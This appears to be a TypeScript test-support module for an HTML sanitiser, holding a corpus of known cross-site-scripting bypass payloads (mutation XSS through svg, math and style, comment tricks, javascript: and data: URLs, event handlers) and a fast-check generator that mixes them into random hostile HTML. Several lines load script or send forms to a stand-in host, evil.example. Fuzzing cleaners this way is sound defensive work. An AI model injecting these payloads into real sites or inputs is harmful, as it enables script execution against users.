/** HTML that means harm: what is known to have got past cleaners, and a generator of what nobody has thought of yet. */
import fc from 'fast-check'

const RUN = 'alert(1)'

/** Each of these ran a script behind some cleaner or shows the trick of one that did. */
export const CORPUS = [
  // Mutation: one tree when it is cleaned, another when it is read again.
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math><mtext><table><mglyph><style><math><img src onerror=${RUN}>`,
  `<svg><foreignObject><p><style><!--</style><img src=x onerror=${RUN}>--></style></p></foreignObject></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<noframes><img title="</noframes><img src onerror=${RUN}>"></noframes>`,
  `<xmp><p title="</xmp><svg/onload=${RUN}>">`,
  `<textarea><img title="</textarea><img src onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src onerror=${RUN}>"></title>`,
  `<iframe><img title="</iframe><img src onerror=${RUN}>"></iframe>`,
  `<svg><title><style><a title="</style></title><img src onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img src onerror=${RUN}></style></annotation-xml></math>`,
  `<svg><style><![CDATA[</style><img src=x onerror=${RUN}>]]></style></svg>`,
  `<svg><desc><template><img src onerror=${RUN}></template></desc></svg>`,
  `<select><template><style><!--</select><img src onerror=${RUN}>--></style></template></select>`,
  `<table><caption><svg><title><table><caption></caption></table><style><a title="</style><img src onerror=${RUN}>">`,
  `<a><svg><a><style><a title="</style><img src onerror=${RUN}>"></a></svg></a>`,
  `<p><svg></p><foreignObject><p><table><mglyph><style><img src onerror=${RUN}></style>`,
  `<math><mi><style><!--</style></mi><mi title="--></mi><img src onerror=${RUN}>"></mi></math>`,
  `${'<div>'.repeat(600)}<svg><style><a title="</style><img src onerror=${RUN}>">`,
  `<plaintext><img src onerror=${RUN}>`,
  `<listing>\n\n<img src onerror=${RUN}></listing>`,
  '<b><a href=x><table><td><a href=y><b>x</table>y',
  '<h1><p><h2><table><h3>x</table></h1>y</h2>',
  '<nobr><nobr>x</nobr></nobr><button><p><button>y',
  '<p><ruby><rt><rp><rt>x</ruby>',
  '<pre>\n\n\nx</pre><pre><code>\n\ny</code></pre>',
  // Comments and other things that are none.
  `<!--><img src onerror=${RUN}>-->`,
  `<!---><img src onerror=${RUN}>-->`,
  `<!-- --!><img src onerror=${RUN}>-->`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><script>${RUN}</script>`,
  `<%<script>${RUN}</script>%>`,
  `</><script>${RUN}</script>`,
  // Elements that run, load or pretend.
  `<script>${RUN}</script>`,
  `<SCRIPT/x>${RUN}</SCRIPT >`,
  `<scr<script>ipt>${RUN}</script>`,
  `<script><!--<script></script>${RUN}</script>`,
  '<script src=//evil.example/x.js></script>',
  `<script>${RUN}`,
  '<link rel=stylesheet href=//evil.example/x.css><meta http-equiv=refresh content="0;url=//evil.example">',
  `<iframe src="javascript:${RUN}"></iframe><iframe srcdoc="<script>${RUN}</script>">`,
  '<object data="data:text/html,x"><embed src=x></object><applet code=x></applet>',
  `<svg onload=${RUN}><animate onbegin=${RUN} attributeName=x><set attributeName=href to="javascript:${RUN}"></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a><use href="data:image/svg+xml,x#y"/></svg>`,
  `<math href="javascript:${RUN}">x</math><math><maction actiontype="statusline#http://x" xlink:href="javascript:${RUN}">x`,
  '<form action="//evil.example"><input autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">x</button></form>',
  `<isindex action="javascript:${RUN}"><keygen autofocus onfocus=${RUN}>`,
  `<video src=x onerror=${RUN}><source onerror=${RUN}></video><audio src="javascript:${RUN}"></audio>`,
  `<details open ontoggle=${RUN}><summary>x</summary></details><marquee onstart=${RUN}>x</marquee>`,
  `<template><script>${RUN}</script></template><slot onslotchange=${RUN}></slot>`,
  `<frameset onload=${RUN}><frame src="javascript:${RUN}"></frameset>`,
  `<body onload=${RUN} background="javascript:${RUN}">x`,
  `<table background="javascript:${RUN}"><td background="javascript:${RUN}">x</td></table>`,
  `<base href="javascript:${RUN}//"><a href="x">x</a>`,
  '<custom-element onclick=alert(1)>x</custom-element><p is="x-y">y</p>',
  '<dialog open>x</dialog><portal src=x></portal><fencedframe></fencedframe>',
  // Addresses.
  ...[
    `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\nscript:${RUN}`, `java\tscript:${RUN}`, `\u0001javascript:${RUN}`,
    `&#106;avascript:${RUN}`, `&#x6A;avascript&colon;${RUN}`, `javascript&#0000058${RUN}`, ` &nbsp;javascript:${RUN}`, `javascript:javascript:${RUN}`,
    'data:text/html;base64,PHNjcmlwdD4=', 'data:image/svg+xml,<svg onload=alert(1)>', 'vbscript:msgbox(1)', 'blob:https://x/1', 'file:///etc/passwd',
    'filesystem:https://x/y', 'view-source:https://x', 'about:blank', 'http:///', 'https://', 'ht\u0000tp://x', 'feed:javascript:alert(1)', '//evil.example\\@x',
  ].flatMap((url) => [`<a href="${url}">x</a>`, `<img src="${url}" srcset="${url} 1x" data-src="${url}">`, `<blockquote cite="${url}">x</blockquote>`]),
  // Attributes.
  `<a href="/x" style="background:url(javascript:${RUN})" target=_blank ping=//evil.example download>x</a>`,
  `<img src=/x onerror=${RUN} OnLoad=${RUN} on\u0000error=${RUN} / onx=1>`,
  `<img src="/x"onerror="${RUN}"x="`,
  `<img """><script>${RUN}</script>">`,
  `<img src='/x' alt='\`&quot;><script>${RUN}</script>'>`,
  `<p title="&quot;&gt;&lt;img src onerror=${RUN}&gt;" lang='"onclick=${RUN}'>x</p>`,
  `<code class="language-js&quot; onclick=${RUN} x">x</code><code class="language-<script>">y</code>`,
  '<td colspan="9999999999">x</td><ol start="1e9"><li value="-1">x</ol>',
  '<p xml:lang="x" xmlns="y" id="z" name="body" class="w">x</p>',
  // Text.
  `&lt;script&gt;${RUN}&lt;/script&gt; &amp;lt;script&amp;gt;`,
  '\u0000<\u0000script>x</script>\ufeff\u2028\ud800\udfff\uffff',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  // What counts a visit, in an element that a picture has no place for.
  '<picture><p><img data-lazy-src=/blank.gif>',
] // prettier-ignore

const NAMES = (
  'p div b i a ul ol li table tr td th tbody caption thead svg math mtext mi mglyph style script title noscript template form button ' +
  'select option h1 h2 pre code textarea iframe figure figcaption img br hr wbr ruby rt rp dl dt dd blockquote plaintext font span ' +
  'frameset body html head base annotation-xml foreignObject desc nobr small em picture source video audio noembed xmp listing ' +
  'details summary center object embed sup lite-youtube amp-iframe colgroup col bdo q x-y'
).split(' ')

const ATTRIBUTE = fc.constantFrom(
  ' href="javascript:alert(1)"', ' href=/x', ' href="?a=1&utm_x=2#utm_y=3"', ' href="mailto:a b@x"', ' src=x', ' src="data:x"', ' src=/pixel.gif',
  ' src="/a,b c.jpg,"', ' srcset="a 1x, b,c 2x"', ' srcset="/w_1,h_2/x.jpg 640w,y"', ' onerror=alert(1)', ' style="display:block"', ' lang=en', ' dir=rtl',
  ' class="language-js"', ' title="</p><img onerror=1>"', ' width=1', ' width=640', ' colspan=3', ' start=3', ' data-src=y', ' data-lazy-src=/blank.gif',
  ' "=x', " '", ' a="', ' hidden', ' poster=z', ' poster=/pixel.gif', ' datetime="2026-01-01 <"', ' cite=//c', ' alt=" \u0001a&#13;b "', ' encoding=text/html',
  ' id=a', ' id="fn:1"', ' id="nabcdef-a"', ' name=a', ' href="#a"', ' href="#fn%3A1"', ' href="#nabcdef-a"', ' class="lineno"', ' class="brush: js"', ' data-lang="c++"',
  ' src="https://www.youtube.com/embed/aBcDeFgHiJ0"', ' videoid=aBcDeFgHiJ0', ' data-src="//maps.example/embed?x=\'"', ' data="/a.pdf"', ' data-thumbnail=/t.jpg',
) // prettier-ignore

const TEXT = fc.oneof(
  fc.constantFrom(
    ' ', 'a', ' b ', '\n', '&nbsp;', '&lt;', '<', '>', '<!--', '-->', '--!>', ']]>', '<![CDATA[', '<?x', '\0', '\r', '\r\n', '&#13;', '&#0;', '&#xD800;',
    '\ud800', '\uffff', '&amp;lt;', '"', "'", '\f', '\u00a0', '\u200b', '&#x80;', '\u0085', '\u2028',
  ),
  fc.string({ maxLength: 4 }),
) // prettier-ignore

const TAG = fc
  .tuple(fc.constantFrom(...NAMES), fc.array(ATTRIBUTE, { maxLength: 3 }), fc.constantFrom('', '', '', '/'))
  .map(([name, attributes, end]) => `<${name}${attributes.join('')}${end}>`)

const PIECE = fc.oneof(
  { weight: 5, arbitrary: TAG },
  { weight: 2, arbitrary: fc.constantFrom(...NAMES).map((name) => `</${name}>`) },
  { weight: 3, arbitrary: TEXT },
  { weight: 1, arbitrary: fc.constantFrom(...CORPUS) },
)

/** Up to forty tags, ends of tags and texts in any order. */
export const hostileHtml: fc.Arbitrary<string> = fc.array(PIECE, { maxLength: 40 }).map((pieces) => pieces.join(''))
